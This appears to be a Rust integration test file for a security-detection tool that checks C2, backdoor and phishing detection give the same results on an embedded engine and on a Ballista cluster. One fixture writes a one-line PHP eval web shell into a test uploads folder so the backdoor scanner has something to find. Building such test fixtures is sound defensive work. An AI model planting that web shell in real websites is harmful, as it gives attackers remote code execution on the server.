//! The pipeline on a Ballista cluster gives the embedded engine's answers.
//!
//! One scheduler and two executors run as separate `borderscope cluster`
//! processes on 127.0.0.1. A store is ingested once and copied; detection
//! runs embedded on one copy and on the cluster on the other, and the
//! findings, the stdout of the detectors, `query`, `summary` and the JSON
//! report must be the same byte for byte. Ballista has had bugs that give
//! wrong answers for some plan shapes; these comparisons are the guard.

#[path = "common/cluster.rs"]
mod cluster_support;
mod common;

use std::fs::File;
use std::path::Path;
use std::process::{Output, Stdio};
use std::time::Duration;

use cluster_support::{free_port, Cluster};
use common::{bin, run};

/// 2023-11-14T22:13:20Z.
const T0: u64 = 1_700_000_000;
const HEADER: &str = "#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\torig_ip_bytes\n";

/// A brand the built-in registry does not know.
const BRANDS: &str = "[[brand]]\nname = \"Lantern Bank\"\ncountry = \"CN\"\ndomains = [\"lanternbank.cn\"]\nkeywords = [\"lanternbank\"]\n";

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// A small world: hosts in China (the constituency) beaconing to servers in
/// the US and Germany that an intel feed lists, one that no feed lists, a
/// backdoored web shop; and the real captures when `../shared` is present.
fn ingest_world(dir: &Path, store: &Path, global: &[&str]) {
    let hosts = ["1.0.8.10", "1.0.8.11", "1.0.8.12", "1.0.8.13", "10.9.0.5"];
    let servers = ["23.1.2.3", "23.1.2.3", "5.1.130.5", "23.1.2.99", "23.1.2.3"];
    let mut conn = HEADER.to_string();
    for (h, s) in hosts.iter().zip(servers) {
        for (i, t) in [0u64, 7, 95, 1300, 1310, 4000, 86_400, 86_460]
            .iter()
            .enumerate()
        {
            conn.push_str(&format!(
                "{}.0\t{h}\t{}\t{s}\t443\ttcp\t{}\n",
                T0 + t,
                50000 + i,
                300 + i * 97
            ));
        }
    }
    let conn_path = dir.join("conn.log");
    std::fs::write(&conn_path, conn).unwrap();
    // A lookalike of a brand only a user's registry knows (see BRANDS).
    let dns_path = dir.join("dns.log");
    let mut dns = "#separator \\x09\n#path\tdns\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tqtype_name\trcode_name\tanswers\n".to_string();
    for (i, h) in hosts.iter().take(3).enumerate() {
        dns.push_str(&format!(
            "{}.0\tCd{i}\t{h}\t53000\t10.9.0.1\t53\tudp\tlanternbank-secure-login.com\tA\tNOERROR\t45.33.40.1\n",
            T0 + 600 * i as u64
        ));
    }
    std::fs::write(&dns_path, dns).unwrap();
    let feed = dir.join("c2.txt");
    std::fs::write(&feed, "# Test campaign\n23.1.2.3\n5.1.130.5\n").unwrap();
    let www = dir.join("www");
    std::fs::create_dir_all(www.join("uploads")).unwrap();
    std::fs::write(www.join("uploads/img.php"), "<?php @eval($_POST['z']); ?>").unwrap();
    let log = dir.join("access.log");
    let mut lines = String::new();
    for minute in [30, 35, 40] {
        lines.push_str(&format!(
            "shop.example.cn 5.2.33.7 - - [14/Nov/2023:22:{minute}:00 +0000] \"POST /uploads/img.php HTTP/1.1\" 200 120 \"-\" \"-\"\n"
        ));
    }
    std::fs::write(&log, lines).unwrap();

    let mut inputs = vec![conn_path, dns_path, log];
    let mut feeds = vec![feed];
    for rel in [
        "zeek/njrat-ctu-malware-230-1/conn.log",
        "suricata/eve-slips-6.json",
        "weblogs/w3af.txt",
    ] {
        if let Some(p) = borderscope_testdata::shared_data(rel) {
            inputs.push(p);
        }
    }
    if let Some(p) = borderscope_testdata::shared_data("intel/signature-base-c2-iocs.txt") {
        feeds.push(p);
    }
    let mut args: Vec<&str> = global.to_vec();
    args.extend(["ingest", "-q"]);
    args.extend(inputs.iter().map(|p| p.to_str().unwrap()));
    run(store, &args);
    let mut args = vec!["intel", "load"];
    args.extend(feeds.iter().map(|p| p.to_str().unwrap()));
    run(store, &args);
    run(
        store,
        &[
            "scan-web",
            www.to_str().unwrap(),
            "--site",
            "shop.example.cn",
        ],
    );
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// Runs `borderscope --store STORE [--cluster URL] GLOBAL ARGS`.
fn on(store: &Path, cluster: Option<&str>, global: &[&str], args: &[&str]) -> Output {
    let mut all: Vec<&str> = Vec::new();
    if let Some(url) = cluster {
        all.extend(["--cluster", url]);
    }
    all.extend(global);
    all.extend(args);
    run(store, &all)
}

/// The lines of a command's output, sorted: stored tables have no order.
fn sorted_lines(o: &Output) -> Vec<String> {
    let mut lines: Vec<String> = stdout(o).lines().map(str::to_string).collect();
    lines.sort();
    lines
}

/// A detector's stdout without its batch id, which is random by design.
fn without_batch_id(text: &str) -> String {
    text.lines()
        .filter(|l| !l.starts_with("stored as batch "))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Queries whose answers must not depend on where they run: scans of every
/// column (partition columns included), grouping by a geolocation function,
/// joins, the beacon aggregate, windows, distinct counts.
const QUERIES: &[&str] = &[
    "SELECT * FROM flows ORDER BY ts, src_ip, src_port, dst_ip, dst_port, source_file, source_line LIMIT 200",
    "SELECT event_date, COUNT(*) AS n, SUM(src_bytes) AS bytes FROM flows GROUP BY event_date ORDER BY event_date",
    "SELECT ip_country(dst_ip) AS cc, COUNT(*) AS n, COUNT(DISTINCT src_ip) AS hosts FROM flows GROUP BY cc ORDER BY n DESC, cc",
    "SELECT ip_is_internal(src_ip) AS internal, ip_asn(dst_ip) AS asn, COUNT(*) AS n FROM flows GROUP BY 1, 2 ORDER BY n DESC, asn LIMIT 30",
    "SELECT f.src_ip, f.dst_ip, COUNT(*) AS n FROM flows f JOIN intel i ON f.dst_ip = i.value GROUP BY 1, 2 ORDER BY n DESC, 1, 2",
    "WITH span AS (SELECT MIN(ts) AS s, MAX(ts) AS e FROM flows), \
     b AS (SELECT f.src_ip, f.dst_ip, beacon_score(f.ts, f.src_bytes, span.s, span.e) AS p FROM flows f CROSS JOIN span GROUP BY f.src_ip, f.dst_ip HAVING COUNT(*) >= 6) \
     SELECT src_ip, dst_ip, p['connections'] AS n, round(p['score'], 6) AS score, round(p['period_s'], 3) AS period FROM b ORDER BY score DESC, src_ip, dst_ip LIMIT 20",
    "SELECT src_ip, ts, row_number() OVER (PARTITION BY src_ip ORDER BY ts, src_port) AS k FROM flows WHERE ip_is_internal(src_ip) ORDER BY src_ip, k LIMIT 100",
    "SELECT COUNT(*) AS rows, COUNT(DISTINCT source_file) AS files FROM quarantine",
    "SELECT site, path, array_to_string(rules, ' ') AS rules, outcome FROM web_files ORDER BY site, path",
];

#[test]
fn detect_query_and_report_match_the_embedded_engine() {
    let dir = tempfile::tempdir().unwrap();
    let constituency = dir.path().join("constituency.toml");
    std::fs::write(
        &constituency,
        "country = \"CN\"\ndomains = [\"example.cn\"]\n",
    )
    .unwrap();
    let global = ["--constituency", constituency.to_str().unwrap()];
    let embedded = dir.path().join("embedded");
    ingest_world(dir.path(), &embedded, &global);
    let clustered = dir.path().join("clustered");
    copy_dir(&embedded, &clustered);

    let cluster = Cluster::start(dir.path(), &global, 2);
    let url = Some(cluster.url.as_str());
    let logs = || cluster.processes.logs();

    // Detection: embedded on one copy, on the cluster on the other. The
    // user's brand registry travels with the plans: the cluster processes
    // were started without it.
    let brands = dir.path().join("brands.toml");
    std::fs::write(&brands, BRANDS).unwrap();
    let with_brands = ["detect", "phishing", "--brands", brands.to_str().unwrap()];
    let detections: [&[&str]; 4] = [
        &["detect", "c2"],
        &["detect", "backdoor"],
        &["detect", "phishing"],
        &with_brands,
    ];
    for detect in detections {
        let here = on(&embedded, None, &global, detect);
        let there = on(&clustered, url, &global, detect);
        assert_eq!(
            without_batch_id(&stdout(&here)),
            without_batch_id(&stdout(&there)),
            "{detect:?} differs on the cluster\n{}",
            logs()
        );
    }
    // Staged results went to files under the store, and went away (on a
    // copy: another detection would change the versions the report shows).
    let traced_store = dir.path().join("traced");
    copy_dir(&clustered, &traced_store);
    let traced = bin()
        .env("BORDERSCOPE_LOG", "borderscope_store=info")
        .args([
            "--store",
            traced_store.to_str().unwrap(),
            "--cluster",
            &cluster.url,
        ])
        .args(global)
        .args(["detect", "c2"])
        .output()
        .unwrap();
    assert!(
        traced.status.success(),
        "{}",
        String::from_utf8_lossy(&traced.stderr)
    );
    let log = String::from_utf8_lossy(&traced.stderr);
    assert!(log.contains("staged") && log.contains("/staging/"), "{log}");
    let left: Vec<_> = std::fs::read_dir(traced_store.join("staging"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(left.is_empty(), "staged files were left: {left:?}");
    let lookalike = sorted_lines(&on(
        &clustered,
        None,
        &global,
        &[
            "query",
            "--format",
            "csv",
            "SELECT domain, brand, brand_country FROM phish_pages",
        ],
    ));
    assert!(
        lookalike.contains(&"lanternbank-secure-login.com,Lantern Bank,CN".to_string()),
        "{lookalike:?}"
    );
    let findings = [
        "SELECT * FROM phish_pages",
        "SELECT * FROM phish_ops",
        "SELECT * FROM c2_evidence",
        "SELECT * FROM c2_control",
        "SELECT * FROM c2_servers",
        "SELECT * FROM backdoors",
        "SELECT * FROM backdoor_attacks",
    ];
    let mut found = 0;
    for sql in findings {
        // JSON: findings hold lists, which CSV cannot.
        let a = sorted_lines(&on(
            &embedded,
            None,
            &global,
            &["query", "--format", "json", sql],
        ));
        let b = sorted_lines(&on(
            &clustered,
            None,
            &global,
            &["query", "--format", "json", sql],
        ));
        assert_eq!(a, b, "findings differ: {sql}");
        found += a.len();
    }
    assert!(
        found >= 8,
        "the world should give findings, got {found} rows"
    );

    // Queries: the same store, embedded and on the cluster.
    for sql in QUERIES {
        let a = stdout(&on(
            &clustered,
            None,
            &global,
            &["query", "--format", "csv", sql],
        ));
        let b = stdout(&on(
            &clustered,
            url,
            &global,
            &["query", "--format", "csv", sql],
        ));
        assert!(
            a.lines().count() > 1 || sql.contains("quarantine"),
            "{sql} found nothing"
        );
        assert_eq!(a, b, "differs on the cluster: {sql}\n{}", logs());
    }
    let a = stdout(&on(&clustered, None, &global, &["summary"]));
    let b = stdout(&on(&clustered, url, &global, &["summary"]));
    assert_eq!(a, b, "summary differs on the cluster");

    // The report: byte-identical JSON from the embedded detection read
    // embedded and the cluster's detection read on the cluster.
    let report = [
        "report",
        "--from",
        "2023-11-01",
        "--to",
        "2023-11-30",
        "--format",
        "json",
    ];
    let a = stdout(&on(&embedded, None, &global, &report));
    let b = stdout(&on(&clustered, url, &global, &report));
    assert!(a.contains("\"c2_servers\""), "{a}");
    assert_eq!(a, b, "report differs on the cluster\n{}", logs());
}

#[test]
fn an_unreachable_scheduler_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let conn = dir.path().join("conn.log");
    std::fs::write(
        &conn,
        format!("{HEADER}{T0}.0\t10.0.0.1\t5000\t23.1.2.3\t443\ttcp\t100\n"),
    )
    .unwrap();
    run(&store, &["ingest", "-q", conn.to_str().unwrap()]);
    let port = free_port();
    let o = bin()
        .args(["--store", store.to_str().unwrap()])
        .args(["--cluster", &format!("df://127.0.0.1:{port}")])
        .args(["query", "SELECT COUNT(*) FROM flows"])
        .output()
        .unwrap();
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("cannot reach the Ballista scheduler")
            && err.contains("borderscope cluster scheduler"),
        "{err}"
    );
}

#[test]
fn processes_with_other_functions_refuse_the_plan() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let conn = dir.path().join("conn.log");
    std::fs::write(
        &conn,
        format!("{HEADER}{T0}.0\t10.0.0.1\t5000\t23.1.2.3\t443\ttcp\t100\n"),
    )
    .unwrap();
    run(&store, &["ingest", "-q", conn.to_str().unwrap()]);
    // The cluster thinks 23.0.0.0/8 is internal; the client does not.
    let cluster = Cluster::start(dir.path(), &["--internal", "23.0.0.0/8"], 1);
    let o = bin()
        .args(["--store", store.to_str().unwrap()])
        .args(["--cluster", &cluster.url])
        .args(["query", "SELECT dst_ip, ip_is_internal(dst_ip) FROM flows"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success(), "{}", stdout(&o));
    assert!(
        err.contains("same --mmdb, --country, --internal") && err.contains("23.0.0.0/8"),
        "{err}"
    );
}

/// Job folders in an executor's work folder (DataFusion's own spill
/// folders, `datafusion-*`, live there too and are not job data).
fn entries(dir: &Path) -> usize {
    std::fs::read_dir(dir)
        .map(|d| {
            d.filter(|e| {
                let name = e.as_ref().unwrap().file_name();
                !name.to_string_lossy().starts_with("datafusion-")
            })
            .count()
        })
        .unwrap_or(0)
}

#[test]
fn a_lost_executor_fails_clearly_or_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let constituency = dir.path().join("constituency.toml");
    std::fs::write(&constituency, "country = \"CN\"\n").unwrap();
    let global = ["--constituency", constituency.to_str().unwrap()];
    let embedded = dir.path().join("embedded");
    ingest_world(dir.path(), &embedded, &global);
    let clustered = dir.path().join("clustered");
    copy_dir(&embedded, &clustered);
    let expected = without_batch_id(&stdout(&on(&embedded, None, &global, &["detect", "c2"])));

    // Quick heartbeats and a short timeout, so the scheduler gives up on the
    // lost executor within seconds; job data removed a second after a job.
    let cluster = Cluster::start_with(
        dir.path(),
        &global,
        2,
        &["--executor-timeout", "6", "--clean-job-data-after", "1"],
        &["--heartbeat", "2"],
    );
    let work = [dir.path().join("executor-0"), dir.path().join("executor-1")];
    let log = dir.path().join("detect-1.log");
    let mut detect = bin()
        .args([
            "--store",
            clustered.to_str().unwrap(),
            "--cluster",
            &cluster.url,
        ])
        .args(global)
        .args(["detect", "c2"])
        .stdout(Stdio::from(File::create(&log).unwrap()))
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // `detect c2` runs one job per stage of its plan; once the first has
    // left shuffle files on an executor, the run is under way: kill that
    // executor.
    let mut victim = None;
    for _ in 0..1200 {
        victim = work.iter().position(|w| entries(w) > 0);
        if victim.is_some() || detect.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let victim = victim.expect("no executor received work within 60 s");
    assert!(
        detect.try_wait().unwrap().is_none(),
        "detect finished before an executor could be killed; the world is too small for this test"
    );
    let mut cluster = cluster;
    let (name, child, _) = &mut cluster.processes.children[1 + victim];
    child.kill().unwrap();
    child.wait().unwrap();
    eprintln!("killed {name} during detect c2");

    let output = detect.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&output.stderr).into_owned();
    let staged_runs = || -> Vec<std::path::PathBuf> {
        std::fs::read_dir(clustered.join("staging"))
            .map(|d| d.flatten().map(|e| e.path()).collect())
            .unwrap_or_default()
    };
    let first_succeeded = output.status.success();
    if first_succeeded {
        // Completed on the remaining executor: the same answer, and the
        // client removed what it staged.
        let got = without_batch_id(&std::fs::read_to_string(&log).unwrap());
        assert_eq!(expected, got, "detect after losing an executor");
        assert_eq!(staged_runs(), Vec::<std::path::PathBuf>::new());
    } else {
        // Failed: with a message, not a crash.
        assert!(
            err.starts_with("error:") && !err.contains("panicked"),
            "{err}"
        );
        eprintln!("detect failed after losing an executor, as allowed:\n{err}");
    }
    // A second run on the remaining executor gives the embedded answer.
    let again = on(&clustered, Some(&cluster.url), &global, &["detect", "c2"]);
    assert_eq!(
        expected,
        without_batch_id(&stdout(&again)),
        "re-run after losing an executor\n{}",
        cluster.processes.logs()
    );
    // The re-run removed its own staged files. A failed first run removed
    // its folder too, but a task still running when the job failed may
    // have written into it afterwards: at most that folder is left.
    let left = staged_runs();
    assert!(
        left.len() <= usize::from(!first_succeeded),
        "staged files were left: {left:?}"
    );
    // The surviving executor's job data is removed once the jobs end.
    let survivor = &work[1 - victim];
    let mut left = entries(survivor);
    for _ in 0..600 {
        if left == 0 {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
        left = entries(survivor);
    }
    assert_eq!(
        left,
        0,
        "job data left in {} 60 s after the last job",
        survivor.display()
    );
}

#[test]
fn a_simulated_world_gives_the_same_report_on_the_cluster() {
    let dir = tempfile::tempdir().unwrap();
    let world = dir.path().join("world");
    let w = world.to_str().unwrap();
    let embedded = dir.path().join("embedded");
    let global = ["--country", "CN"];
    run(
        &embedded,
        &["simulate", "--out", w, "--scale", "small", "--quiet"],
    );
    run(&embedded, &["ingest", "--quiet", &format!("{w}/telemetry")]);
    run(
        &embedded,
        &[
            "intel",
            "load",
            &format!("{w}/feeds/feodo.csv"),
            &format!("{w}/feeds/c2-domains.txt"),
        ],
    );
    run(
        &embedded,
        &["phish", "load", &format!("{w}/feeds/phishtank.csv")],
    );
    let clustered = dir.path().join("clustered");
    copy_dir(&embedded, &clustered);

    let cluster = Cluster::start(dir.path(), &global, 2);
    let url = Some(cluster.url.as_str());
    for detector in ["c2", "backdoor", "phishing"] {
        let here = on(&embedded, None, &global, &["detect", detector]);
        let there = on(&clustered, url, &global, &["detect", detector]);
        assert_eq!(
            without_batch_id(&stdout(&here)),
            without_batch_id(&stdout(&there)),
            "detect {detector} differs on the cluster\n{}",
            cluster.processes.logs()
        );
    }
    let report = [
        "report",
        "--from",
        "2020-01-01",
        "--to",
        "2030-12-31",
        "--format",
        "json",
    ];
    let a = stdout(&on(&embedded, None, &global, &report));
    let b = stdout(&on(&clustered, url, &global, &report));
    let r: serde_json::Value = serde_json::from_str(&a).unwrap();
    for figure in ["c2_servers", "phishing_pages", "backdoor_websites"] {
        assert!(
            r["figures"][figure].as_u64().unwrap_or(0) > 0,
            "the simulated world should give {figure}: {}",
            r["figures"]
        );
    }
    assert_eq!(
        a,
        b,
        "report differs on the cluster\n{}",
        cluster.processes.logs()
    );
}
